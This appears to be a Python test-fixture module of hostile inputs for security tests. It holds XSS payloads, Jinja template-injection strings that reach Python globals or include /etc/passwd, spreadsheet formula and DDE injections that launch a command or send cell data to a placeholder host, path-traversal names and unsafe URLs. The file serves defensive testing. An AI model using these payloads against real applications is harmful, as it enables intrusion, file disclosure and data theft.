"""Shared hostile inputs for the security tests (XSS, template injection, formula injection, paths).

Every XSS payload sets ``window.__xss``, opens an alert or injects an element with
``id=xss-injected`` if it ever runs, so a browser test can detect execution. Template payloads
produce a tell-tale value (``49``, a module repr, ``loop loop``) if a Jinja template evaluates them.
Import from tests: ``from payloads import XSS_PAYLOADS, TEMPLATE_PAYLOADS, ALL_PAYLOADS``.
"""

from __future__ import annotations

#: HTML / JavaScript injection: tags, attributes, closing contexts, URL schemes, JS string breaks.
XSS_PAYLOADS: list[str] = [
    "<script>window.__xss=1;alert('xss')</script>",
    "</script><script>window.__xss=2;alert(2)</script>",
    "</SCRIPT><img src=x onerror=\"window.__xss=3\">",
    "<img src=x onerror=alert(4)>",
    "<svg onload=\"window.__xss=5\"></svg>",
    "<svg><script>window.__xss=6</script></svg>",
    "\"><img id=xss-injected src=x onerror=window.__xss=7>",
    "'><b id=xss-injected>bold</b>",
    "<iframe src=\"javascript:window.parent.__xss=9\"></iframe>",
    "<a id=xss-injected href=\"javascript:window.__xss=10\">click</a>",
    "javascript:window.__xss=11",
    "JaVaScRiPt:alert(12)",
    "java\tscript:alert(13)",
    "data:text/html,<script>alert(14)</script>",
    "${window.__xss=15}",
    "`${alert(16)}`",
    "\u2028alert(22)\u2029",
    "</title><script>window.__xss=23</script>",
    "<style>body{display:none}</style>",
    "<body onload=\"window.__xss=25\">",
    "<details open ontoggle=\"window.__xss=26\">",
    "\" onmouseover=\"window.__xss=27\" x=\"",
    "' onclick='window.__xss=28' '",
    "<!--",
    "]]></script><script>window.__xss=30</script>",
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    "\\\"; window.__xss=32; //",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=33>",
    "<input autofocus onfocus=\"window.__xss=34\">",
    "</textarea><script>window.__xss=35</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=36>\">",
    "<object data=\"javascript:window.__xss=37\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=38\">",
    "<base href=\"javascript:window.__xss=39//\">",
    "vbscript:msgbox(40)",
    " javascript:window.__xss=41",
    "&#106;avascript:window.__xss=42",
    "<a id=xss-injected href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg0Myk8L3NjcmlwdD4=\">x</a>",
    "\"-alert(44)-\"",
    "'-alert(45)-'",
    "</div></div><script>window.__xss=46</script>",
    "<<script>window.__xss=47//<</script>",
    "\"\"\"</script><!--<script>window.__xss=48</script>-->",
    "<img src=x:x onerror=window.__xss=49 id=xss-injected>",
    "\u202e<script>window.__xss=50</script>",  # right-to-left override before a tag
    "\x00<script>window.__xss=51</script>",
    "<scr\x00ipt>window.__xss=52</scr\x00ipt>",
]

#: Jinja / template injection: must be shown literally, never evaluated.
TEMPLATE_PAYLOADS: list[str] = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ cycler.__init__.__globals__.os.getcwd() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "{{ config }} {{ self }}",
    "{{ this }} {{ kwargs }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{'<script>window.__xss=60</script>'|safe}}",
]

#: Spreadsheet formula injection (OWASP CSV injection): cells must be neutralised in CSV output.
FORMULA_PAYLOADS: list[str] = [
    "=1+1",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://example.invalid/?v=\",A1),\"//a\")",
    "＝1+1",  # full-width equals: harmless in spreadsheets, must survive unchanged or neutralised
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "-2+3+cmd|' /C calc'!A0",
]

#: Names that must never become file paths (read from input, e.g. a source id or place name).
PATH_PAYLOADS: list[str] = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "con",
    "nul.txt",
    "a/../../../b",
    "\x00evil",
    "~/.ssh/authorized_keys",
    "file:///etc/passwd",
]

#: URLs that must never become clickable links.
UNSAFE_URLS: list[str] = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "&#106;avascript:alert(1)",
]

#: Every text payload that goes into HTML-bound fields.
ALL_PAYLOADS: list[str] = XSS_PAYLOADS + TEMPLATE_PAYLOADS

#: Tell-tales of an evaluated template payload: none of them occurs in any payload, so none may
#: appear in an output built from the payloads. (``{{ 7*7 }}`` -> ``49`` is checked by looking
#: for the literal payload instead, since digits occur elsewhere.)
TEMPLATE_TELLTALES: list[str] = [
    "7777777",
    "looploop",
    "<module ",
    "<built-in",
    "<class ",
    "<function ",
    "root:x:0:0",
    "Undefined",
]

assert len(XSS_PAYLOADS) >= 30
assert len(set(ALL_PAYLOADS)) == len(ALL_PAYLOADS)
for _tell in TEMPLATE_TELLTALES:
    assert not any(_tell in _p for _p in ALL_PAYLOADS), _tell
